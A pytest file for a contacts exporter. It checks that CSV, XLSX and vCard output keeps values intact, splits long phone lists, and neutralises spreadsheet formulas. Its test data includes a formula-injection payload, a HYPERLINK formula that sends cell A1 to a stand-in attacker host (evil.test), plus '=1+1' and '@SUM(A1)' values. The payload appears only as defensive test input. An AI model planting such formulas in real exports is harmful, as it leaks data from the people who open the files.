"""Other programs read every value, and run nothing."""

import csv
from collections.abc import Iterator
from pathlib import Path
from typing import Any, get_args

import pytest
import vobject  # type: ignore[import-untyped]
from openpyxl import load_workbook

from application.documents.contacts import ContactDocument
from application.refusals import Refused
from infrastructure.formats.export import write_contacts
from infrastructure.formats.table import Format
from tests.export.contacts import contact

FORMULA = '=HYPERLINK("http://evil.test?x="&A1,"Click")'
MARY = contact(
    "Müller; Mary",
    {"+13195555677": "Front desk", "+13195554929;ext=12": "mobile", "ask, 5; x": None},
    {"mary@b.test": "work"},
    {
        "company": "=1+1",
        "note": 'one\ntwo "three"; four\\,\t',
        "zip": "00123",
        "Phone 2 - Value": "@SUM(A1)",
        "danger": FORMULA,
        "date": "2024-05-01",
        "x" * 70: "é" * 100,
    },
)
LONG = contact(None, {f"+131955500{each:02}": None for each in range(60)})
NUMBERS = [f"+131955500{each:02}" for each in range(60)]


def written(folder: Path, format_: Format, *contacts: ContactDocument) -> Path:
    path = folder / f"contacts.{format_}"
    with path.open("wb") as file:
        write_contacts(contacts, file, format_)
    return path


def rows_of_csv(path: Path) -> Iterator[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        yield from csv.DictReader(file, strict=True)


def cells_of_xlsx(path: Path) -> list[tuple[Any, ...]]:
    return list(load_workbook(path)["Contacts"].iter_rows())


def rows_of_xlsx(path: Path) -> Iterator[dict[str, Any]]:
    header, *rows = ([cell.value for cell in cells] for cells in cells_of_xlsx(path))
    return (dict(zip(header, row, strict=True)) for row in rows)


def test_a_csv_reader_reads_it_and_formulas_are_guarded(tmp_path: Path) -> None:
    (row,) = rows_of_csv(written(tmp_path, "csv", MARY))
    assert row["Name"] == "Müller; Mary"
    assert row["Phone 1 - Value"] == "+13195555677"
    assert row["Phone 2 - Value"] == "+13195554929;ext=12"
    assert row["Phone 3 - Value"] == "ask, 5; x"
    assert row["Phone 1 - Label"] == "Front desk"
    assert row["company"] == "'=1+1"
    assert row["danger"] == f"'{FORMULA}"
    assert row["note"] == MARY.attributes["note"].value
    pair = row["Attribute 1 - Name"], row["Attribute 1 - Value"]
    assert pair == ("Phone 2 - Value", "'@SUM(A1)")


def test_a_spreadsheet_reads_texts_and_no_formula(tmp_path: Path) -> None:
    path = written(tmp_path, "xlsx", MARY)
    (row,) = rows_of_xlsx(path)
    assert row["Phone 1 - Value"] == "+13195555677"
    assert row["company"] == "=1+1"
    assert row["danger"] == FORMULA
    assert row["zip"] == "00123"
    assert row["note"] == MARY.attributes["note"].value
    filled = [cell for cells in cells_of_xlsx(path) for cell in cells if cell.value is not None]
    assert {(cell.data_type, cell.number_format) for cell in filled} == {("s", "@")}


def test_an_address_book_reads_every_value(tmp_path: Path) -> None:
    path = written(tmp_path, "vcard", MARY, contact(None, {"+13195550100": None}))
    text = path.read_bytes()
    assert max(map(len, text.split(b"\r\n"))) <= 75
    assert b"\n" not in text.replace(b"\r\n", b"")
    mary, other = vobject.readComponents(text.decode())
    assert mary.version.value == "4.0"
    assert mary.fn.value == "Müller; Mary"
    phones = [(each.value, each.params.get("TYPE")) for each in mary.contents["tel"]]
    assert phones == [
        ("tel:+13195555677", None),
        ("tel:+13195554929;ext=12", ["cell"]),
        ("ask, 5; x", None),
    ]
    assert mary.contents["x-ablabel"][0].value == "Front desk"
    assert [each.value for each in mary.contents["email"]] == ["mary@b.test"]
    assert mary.org.value == ["=1+1"]
    told = {each.value for each in mary.contents["x-contact-merging-attribute"]}
    assert told == {f"{name};{each.value}" for name, each in MARY.attributes.items()}
    assert other.fn.value == ""


@pytest.mark.parametrize("format_", ["csv", "xlsx"])
def test_many_phones_share_the_last_column(tmp_path: Path, format_: Format) -> None:
    rows = rows_of_csv if format_ == "csv" else rows_of_xlsx
    (row,) = rows(written(tmp_path, format_, LONG))
    assert [row[f"Phone {each} - Value"] for each in range(1, 50)] == NUMBERS[:49]
    assert row["Phone 50 - Value"].removeprefix("'") == "\n".join(NUMBERS[49:])
    assert "Phone 51 - Value" not in row


@pytest.mark.parametrize("format_", get_args(Format))
def test_an_account_without_contacts_is_a_header_or_nothing(
    tmp_path: Path, format_: Format
) -> None:
    path = written(tmp_path, format_)
    if format_ == "vcard":
        assert path.read_bytes() == b""
    elif format_ == "csv":
        assert path.read_text("utf-8-sig") == "Contact-Merging ID,Name\n"
    else:
        assert list(rows_of_xlsx(path)) == []


def test_more_columns_than_a_table_has_are_refused(tmp_path: Path) -> None:
    odd = contact("Odd", {"+13195550100": None}, {}, {f"a\n{each}": "b" for each in range(1_000)})
    with pytest.raises(Refused, match=r"need 2,003 columns, a table has 2,000 at most"):
        written(tmp_path, "csv", odd)
    assert written(tmp_path, "vcard", odd).stat().st_size > 0
